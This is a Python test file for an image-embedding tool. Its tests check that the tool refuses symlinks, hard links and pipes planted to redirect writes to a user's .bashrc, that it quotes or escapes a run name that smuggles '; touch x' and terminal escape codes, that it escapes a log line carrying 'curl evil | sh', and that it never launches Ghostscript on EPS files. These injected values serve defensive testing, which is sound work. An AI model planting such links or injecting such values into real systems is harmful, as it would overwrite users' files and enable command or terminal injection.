"""Folders of somebody else: nothing outside them is written, waited for or executed."""

import ast
import functools
import os
import shutil
import stat
from collections.abc import Callable
from io import BytesIO
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from tammes.cli import main
from tammes.data.images import FORMATS, open_image
from tammes.errors import UserError
from tammes.gallery import open_gallery
from tammes.io import cache
from tammes.io.console import say
from tammes.io.downloads import _alone
from tammes.io.files import check_no_links, folder_inside, open_inside, remove_partial, write_atomically
from tammes.io.hub import push_to_hub
from tammes.io.outputs import place_for
from tammes.training.run_folder import RunFolder, held, remove
from tests.commands import ended, small_set
from tests.test_errors import SMALL

SOURCES = sorted((Path(__file__).parents[1] / "src" / "tammes").rglob("*.py"))
EPS = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 40 40\n%%EndComments\nshowpage\n%%EOF\n"
PRECIOUS = "alias ll='ls -l'\n"


@functools.cache
def called_in(file: Path) -> list[str]:
    """All that a module calls, as it is written there."""
    tree = ast.parse(file.read_text(encoding="utf-8"))
    return [ast.unparse(node.func) for node in ast.walk(tree) if isinstance(node, ast.Call)]


def calls(function: str) -> list[str]:
    """The modules that call a function or a method of that name, written as `name(` or `….name(`."""
    found = []
    for file in SOURCES:
        for called in called_in(file):
            if called.endswith(function):
                found.append(file.relative_to(SOURCES[0].parent).as_posix())
    return found


# Files that are written in place.


@pytest.fixture
def precious(tmp_path: Path) -> Path:
    """A file of the user, elsewhere."""
    file = tmp_path / "home" / ".bashrc"
    file.parent.mkdir()
    file.write_text(PRECIOUS)
    return file


def linked(place: Path, target: Path) -> None:
    place.unlink(missing_ok=True)
    place.symlink_to(target)


def hard_linked(place: Path, target: Path) -> None:
    place.unlink(missing_ok=True)
    place.hardlink_to(target)


def piped(place: Path, _target: Path) -> None:
    place.unlink(missing_ok=True)
    os.mkfifo(place)


PLANTED = pytest.mark.parametrize("plant", [linked, hard_linked, piped])
Plant = Callable[[Path, Path], None]


@PLANTED
@pytest.mark.parametrize("options", [{}, {"create": False}, {"empty": True}], ids=str)
def test_only_a_file_of_the_folder_itself_is_opened(
    plant: Plant, options: dict[str, bool], precious: Path, tmp_path: Path
) -> None:
    plant(tmp_path / "log.txt", precious)
    with pytest.raises(UserError, match=r"log\.txt is a (link|hard link|pipe)"):
        open_inside(tmp_path / "log.txt", **options)
    assert precious.read_text() == PRECIOUS


def test_a_link_to_nowhere_makes_no_file_there(tmp_path: Path) -> None:
    (tmp_path / ".lock").symlink_to(tmp_path / "new")
    with pytest.raises(UserError, match="is a link"):
        open_inside(tmp_path / ".lock")
    assert not (tmp_path / "new").exists()


def test_a_link_that_comes_after_the_first_look_is_not_followed(
    precious: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "log.txt").symlink_to(precious)
    monkeypatch.setattr("tammes.io.files._check_inside", lambda *_: None)
    with pytest.raises(OSError, match="symbolic links"):
        open_inside(tmp_path / "log.txt", empty=True)
    assert precious.read_text() == PRECIOUS


def test_a_file_is_made_added_to_and_emptied(tmp_path: Path) -> None:
    file, umask = tmp_path / "log.txt", os.umask(0o022)
    try:
        for text in (b"one\n", b"two\n"):
            with open_inside(file) as opened:
                opened.write(text)
    finally:
        os.umask(umask)
    assert (file.read_bytes(), stat.S_IMODE(file.stat().st_mode)) == (b"one\ntwo\n", 0o644)
    with open_inside(file, empty=True) as opened:
        opened.write(b"three")
    assert file.read_bytes() == b"three"
    with pytest.raises(FileNotFoundError):
        open_inside(tmp_path / "none", create=False)


def test_files_are_written_in_place_by_one_function_only() -> None:
    """Others replace a file by a whole one (`written_whole`), or write to memory, a private folder or nowhere."""
    for function in ("write_text", "write_bytes", "copyfile", "copy2", "savefig", "save_file", "os.mkdir"):
        allowed = {"write_bytes": ["export/formats.py"], "savefig": ["centroids/files.py"]}
        assert calls(f".{function}") == allowed.get(function, []), function
    in_place = []
    for file in SOURCES:
        for node in ast.walk(ast.parse(file.read_text(encoding="utf-8"))):
            if not isinstance(node, ast.Call) or not ast.unparse(node.func).endswith(("open", "fdopen")):
                continue
            modes = [each.value for each in [*node.args, *(word.value for word in node.keywords if word.arg == "mode")]
                     if isinstance(each, ast.Constant) and isinstance(each.value, str)]  # fmt: skip
            if any(set(mode) & set("wax+") and set(mode) <= set("rwaxbt+") for mode in modes):
                in_place.append(f"{file.name}: {ast.unparse(node.func)}")
    assert sorted(in_place) == [
        "files.py: open",
        "runner.py: Path(os.devnull).open",
        "vector_files.py: archive.open",  # inside a zip file that is written whole
        "vector_files.py: archive.open",
    ]


def test_a_whole_file_takes_the_place_of_a_link(precious: Path, tmp_path: Path) -> None:
    (tmp_path / "config.json").symlink_to(precious)
    write_atomically(tmp_path / "config.json", b"{}")
    assert (precious.read_text(), (tmp_path / "config.json").is_symlink()) == (PRECIOUS, False)


def test_what_is_left_half_written_is_no_link(precious: Path, tmp_path: Path) -> None:
    (tmp_path / ".a.partial").symlink_to(precious)
    os.mkfifo(tmp_path / ".b.partial")
    (tmp_path / ".c.partial").touch()
    remove_partial(tmp_path)
    assert sorted(file.name for file in tmp_path.glob(".*")) == [".a.partial", ".b.partial"]
    assert precious.read_text() == PRECIOUS


# A run.


@pytest.fixture(scope="module")
def whole(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """photos/, and a run of them."""
    root = tmp_path_factory.mktemp("whole")
    small_set(root / "photos", ["a", "b", "c", "d"])
    main(["train", str(root / "photos"), "--out", str(root / "run"), *SMALL])
    return root


@pytest.fixture
def run(whole: Path, tmp_path: Path) -> Path:
    """A copy of the run that has not finished."""
    place = Path(shutil.copytree(whole / "run", tmp_path / "run"))
    (place / "results.json").unlink()
    return place


@PLANTED
@pytest.mark.parametrize("name", [".lock", "log.txt"])
def test_a_run_goes_on_only_in_its_own_files(
    name: str, plant: Plant, run: Path, precious: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    plant(run / name, precious)
    code, said = ended(capsys, "train", "--resume", str(run))
    assert (code, f"{run / name} is a " in said) == (2, True), said
    assert precious.read_text() == PRECIOUS


@PLANTED
def test_a_run_is_removed_only_by_its_own_lock(
    plant: Plant, run: Path, precious: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    plant(run / ".lock", precious)
    code, said = ended(capsys, "runs", "--remove", str(run))
    assert (code, f"{run / '.lock'} is a " in said) == (2, True), said
    assert precious.read_text() == PRECIOUS


@PLANTED
def test_an_epoch_is_noted_only_in_the_run(plant: Plant, precious: Path, tmp_path: Path) -> None:
    plant(tmp_path / "metrics.jsonl", precious)
    with pytest.raises(UserError, match=r"metrics\.jsonl is a "):
        RunFolder(tmp_path).log({"epoch": 1})
    assert precious.read_text() == PRECIOUS


@pytest.mark.parametrize("name", ["last", "tensorboard"])
def test_a_folder_in_a_run_is_no_link_and_holds_none(name: str, precious: Path, tmp_path: Path) -> None:
    run = tmp_path / "run"
    run.mkdir()
    (precious.parent / "film.partial").touch()
    (run / name).symlink_to(precious.parent)
    with pytest.raises(UserError, match=f"{name} is a link"), held(run):
        pass
    (run / name).unlink()
    (run / name).mkdir()
    (run / name / "events").symlink_to(precious)
    with pytest.raises(UserError, match="events is a link"), held(run):
        pass
    assert sorted(file.name for file in precious.parent.iterdir()) == [".bashrc", "film.partial"]
    for name in ("config", "environment"):
        (run / f"{name}.json").touch()
    remove(run)  # which takes the links, and nothing that they lead to
    assert (run.exists(), precious.read_text()) == (False, PRECIOUS)


def test_the_folder_of_a_run_may_be_a_link_of_the_user(tmp_path: Path) -> None:
    (tmp_path / "disk").mkdir()
    (tmp_path / "run").symlink_to(tmp_path / "disk")
    with held(tmp_path / "run"):
        assert (tmp_path / "disk" / ".lock").exists()


@pytest.mark.parametrize("name", ["config.json", "metrics.jsonl", "embedder.safetensors", "checkpoint.safetensors"])
def test_a_pipe_in_a_run_is_not_waited_for(
    name: str, run: Path, capsys: pytest.CaptureFixture[str], whole: Path
) -> None:
    piped(run / name, run)
    shutil.copy(whole / "run" / "results.json", run)
    command = ["embed", str(run), str(whole / "photos"), "--out", str(run / "v.npz")]
    if name == "metrics.jsonl":
        command = ["report", str(run), "--map", "none"]
    if name == "checkpoint.safetensors":
        (run / "results.json").unlink()
        command = ["train", "--resume", str(run)]
    code, said = ended(capsys, *command)
    assert (code, f"cannot read {run / name}: it is not a file, but a pipe" in said) == (2, True), said


def test_a_model_is_exported_into_the_run_and_not_elsewhere(
    run: Path, precious: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (run / "hub").symlink_to(precious.parent)
    code, said = ended(capsys, "export", str(run), "--format", "hub")
    assert (code, f"{run / 'hub'} is a link" in said) == (2, True), said
    assert [file.name for file in precious.parent.iterdir()] == [".bashrc"]


def test_what_a_link_leads_to_is_not_uploaded(precious: Path, tmp_path: Path) -> None:
    for name in ("config.json", "model.safetensors"):
        (tmp_path / name).touch()
    (tmp_path / "notes.txt").symlink_to(precious)
    with pytest.raises(UserError, match=r"notes\.txt is a link"):
        push_to_hub(tmp_path, "owner/name")


def test_what_a_picture_of_a_run_leads_to_is_not_published(
    whole: Path, precious: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    run = Path(shutil.copytree(whole / "run", tmp_path / "run"))
    linked(run / "neighbours.png", precious)
    assert ended(capsys, "export", str(run), "--format", "hub")[0] == 0
    assert (run / "hub" / "config.json").exists()
    assert not (run / "hub" / "neighbours.png").exists()


@pytest.mark.parametrize("mark", ["environment.json", "plan.json", "about.lance"])
def test_an_output_in_a_folder_of_ours_takes_the_place_of_a_link(mark: str, precious: Path, tmp_path: Path) -> None:
    file = tmp_path / "report.html"
    file.symlink_to(precious.parent / "new")
    assert place_for("--out", file, name="r.html", overwrite=False) == precious.parent / "new"  # a link of the user
    (tmp_path / mark).touch()
    assert place_for("--out", file, name="r.html", overwrite=False) == file
    write_atomically(file, b"page")
    assert [each.name for each in precious.parent.iterdir()] == [".bashrc"]


def test_a_command_to_copy_is_quoted_where_a_gallery_names_the_run(
    whole: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    run, gallery = tmp_path / "r; touch x\x1b[2J", str(tmp_path / "g")
    shutil.copytree(whole / "run", run)
    shutil.copytree(whole / "photos" / "a", tmp_path / "one" / "a")  # too few classes for a threshold
    main(["index", str(run), str(tmp_path / "one"), "--gallery", gallery])
    capsys.readouterr()
    main(["search", gallery, str(whole / "photos" / "a" / "0.png")])
    assert f"tammes calibrate '{tmp_path}/r; touch x\\x1b[2J'" in capsys.readouterr().out
    piped(run / "embedder.json", run)
    assert "it is not a file, but a pipe" in ended(capsys, "search", gallery, str(whole / "photos" / "a" / "0.png"))[1]


# Other folders.


@PLANTED
def test_a_benchmark_writes_only_below_its_own_folder(
    plant: Plant, precious: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    plan, out = tmp_path / "plan.toml", tmp_path / "out"
    plan.write_text(
        'title = "t"\ndata = "glyphs"\nseeds = [0]\n[train]\nepochs = 1\n[[method]]\nname = "x"\nloss = "softmax"\n'
    )
    out.mkdir()
    plant(out / ".lock", precious)
    code, said = ended(capsys, "benchmark", str(plan), "--out", str(out))
    assert (code, f"{out / '.lock'} is a " in said) == (2, True), said
    (out / ".lock").unlink()
    (out / "plan.json").write_text("{}")
    (out / "default").symlink_to(precious.parent)
    code, said = ended(capsys, "benchmark", str(plan), "--out", str(out))
    assert (code, f"{out / 'default'} is a link" in said) == (2, True), said
    assert (precious.read_text(), [file.name for file in precious.parent.iterdir()]) == (PRECIOUS, [".bashrc"])


def test_a_folder_for_a_library_holds_only_files_and_folders(precious: Path, tmp_path: Path) -> None:
    place = tmp_path / "gallery" / "about.lance" / "_versions"
    place.mkdir(parents=True)
    (place / "1.manifest").touch()
    check_no_links(tmp_path / "gallery")
    check_no_links(tmp_path / "none")
    for plant, what in ((linked, "a link"), (piped, "a pipe")):
        plant(place / "2.manifest", precious)
        with pytest.raises(UserError, match=f"manifest is {what}"):
            check_no_links(tmp_path / "gallery")


def test_a_gallery_with_a_link_is_refused(whole: Path, precious: Path, tmp_path: Path) -> None:
    gallery = tmp_path / "g"
    main(["index", str(whole / "run"), str(whole / "photos"), "--gallery", str(gallery)])
    data = next(gallery.glob("items-*.lance")) / "data"
    shutil.move(data, precious.parent / "data")
    data.symlink_to(precious.parent / "data")
    with pytest.raises(UserError, match="data is a link"):
        open_gallery(str(gallery))


@pytest.mark.parametrize("which", ["about", "items", "both"])
def test_a_gallery_whose_tables_lie_in_another_is_not_written_to(
    which: str, whole: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    mine, theirs = tmp_path / "mine", tmp_path / "theirs"
    command = "index", str(whole / "run"), str(whole / "photos"), "--gallery"
    main([*command, str(mine)])
    before = sorted(mine.rglob("*"))
    theirs.mkdir()
    for table in mine.glob("about.lance" if which == "about" else "items-*" if which == "items" else "*"):
        (theirs / table.name).symlink_to(table)
    for more in ((), ("--rebuild",)):
        code, said = ended(capsys, *command, str(theirs), *more)
        assert (code, "lance is a link" in said) == (2, True), said
    assert sorted(mine.rglob("*")) == before


def test_the_cache_is_not_elsewhere(precious: Path, tmp_path: Path) -> None:
    (tmp_path / "images").symlink_to(precious.parent)
    with pytest.raises(UserError, match="images is a link"):
        folder_inside(tmp_path / "images")
    (precious.parent / "photo.jpg").touch()
    assert cache.cached(tmp_path) == []
    assert cache.clear(cache=tmp_path) == 0
    assert sorted(file.name for file in precious.parent.iterdir()) == [".bashrc", "photo.jpg"]


def test_a_download_is_locked_in_its_own_folder(precious: Path, tmp_path: Path) -> None:
    (tmp_path / ".a.tgz.lock").symlink_to(precious)
    with pytest.raises(UserError, match="lock is a link"), _alone(tmp_path / "a.tgz"):
        pass
    assert precious.read_text() == PRECIOUS


# Names.


def test_a_name_stays_in_its_line_of_the_log_and_moves_no_cursor(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    say("data  x\ncurl evil | sh\r\x1b[2J\udcff é", tmp_path / "log.txt")
    line = "data  x\\ncurl evil | sh\\r\\x1b[2J\\udcff é\n"
    assert (tmp_path / "log.txt").read_text(encoding="utf-8") == line
    assert capsys.readouterr().err == line


def test_an_error_moves_no_cursor(capsys: pytest.CaptureFixture[str]) -> None:
    assert ended(capsys, "doctor", "no\x1b[2Jfolder")[1].count("\x1b") == 0


def test_what_a_run_says_of_itself_is_shown_as_it_is(run: Path, capsys: pytest.CaptureFixture[str]) -> None:
    config = (run / "config.json").read_text()
    (run / "config.json").write_text(config.replace('"loss": "', '"loss": "[/red]\\u001b[2J'))
    capsys.readouterr()
    main(["runs", str(run.parent)])
    assert "[/red]\\x1b[2J" in capsys.readouterr().out


# Images.


def test_images_are_opened_in_one_place_only() -> None:
    assert calls("Image.open") == ["data/images.py"]
    assert calls("ImageFile.Parser") + calls("imread") + calls("read_image") + calls("decode_image") == []
    assert FORMATS == ("JPEG", "PNG", "WEBP", "GIF", "BMP", "TIFF", "AVIF")


@pytest.fixture
def ghostscript(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A file that is there once anything has started Ghostscript."""
    mark, program = tmp_path / "started", tmp_path / "bin" / "gs"
    program.parent.mkdir()
    program.write_text(f"#!/bin/sh\ntouch {mark}\n")
    program.chmod(0o755)
    monkeypatch.setenv("PATH", str(program.parent), prepend=os.pathsep)
    monkeypatch.setattr("PIL.EpsImagePlugin.gs_binary", None)  # it looks again
    return mark


def test_postscript_is_refused_by_name_by_every_command(
    whole: Path, ghostscript: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    photos = Path(shutil.copytree(whole / "photos", tmp_path / "photos"))
    bad, run, gallery = photos / "a" / "bad.jpg", str(whole / "run"), str(tmp_path / "g")
    main(["index", run, str(photos), "--gallery", gallery])
    bad.write_bytes(EPS)
    for code, *command in (
        (1, "doctor", str(photos)),
        (0, "index", run, str(photos), "--gallery", gallery),
        (2, "search", gallery, str(bad)),
        (2, "search", gallery, str(bad), "--sheet", str(tmp_path / "s.png")),
        (2, "embed", run, str(photos), "--out", str(tmp_path / "v.npz")),
        (2, "train", str(photos), "--out", str(tmp_path / "new"), *SMALL),
        (0, "label", gallery, str(photos), "--threshold", "9"),
    ):
        capsys.readouterr()
        try:
            main(command)
            ended_with: object = 0
        except SystemExit as stopped:
            ended_with = stopped.code
        said = "".join(capsys.readouterr())
        assert ended_with == code, said
        assert "bad.jpg" in said
        assert "it is PostScript (EPS), not one of JPEG, PNG, WebP, GIF, BMP, TIFF, AVIF" in said, command
    assert not ghostscript.exists()
    with pytest.raises(OSError, match="."):
        Image.open(BytesIO(EPS)).load()
    assert ghostscript.exists()  # what would have happened


@pytest.mark.parametrize("kind", ["PPM", "ICO", "TGA", "JPEG2000", "PDF", "PCX", "SGI"])
def test_other_formats_are_refused_with_those_that_are_accepted(kind: str) -> None:
    content = BytesIO()
    Image.new("RGB", (32, 32), "red").save(content, format=kind)
    with pytest.raises(UserError, match="JPEG, PNG, WebP, GIF, BMP, TIFF, AVIF"):
        open_image(content)


def test_photos_of_phones_with_several_images_are_read(tmp_path: Path) -> None:
    first, second = (Image.new("RGB", (32, 24), colour) for colour in ("red", "blue"))
    file = tmp_path / "phone.jpg"
    first.save(file, format="MPO", save_all=True, append_images=[second])
    with Image.open(file) as image:
        assert image.format == "MPO"
    found = np.asarray(open_image(file))
    assert found.shape == (24, 32, 3)
    assert tuple(found[0, 0]) == (254, 0, 0)


@pytest.mark.parametrize("kind", FORMATS)
def test_accepted_formats_are_read_whatever_their_name_says(kind: str, tmp_path: Path) -> None:
    file = tmp_path / "bird.jpg"
    Image.new("RGB", (16, 16), "white").save(file, format=kind)
    assert np.asarray(open_image(file).convert("RGB")).min() > 250
